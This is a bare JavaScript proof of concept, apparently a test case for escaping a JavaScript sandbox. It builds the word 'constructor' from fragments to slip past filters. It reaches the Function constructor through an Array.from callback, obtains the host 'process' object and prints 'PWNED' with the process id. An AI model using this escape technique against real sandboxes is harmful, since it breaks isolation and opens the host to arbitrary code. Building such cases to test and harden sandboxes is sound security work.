'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
let got;
const t = [];
t[w][['fr', 'om'].join('')]([1], () => { got = fn[w]; });
console.log('PWNED', got('return process')().pid);
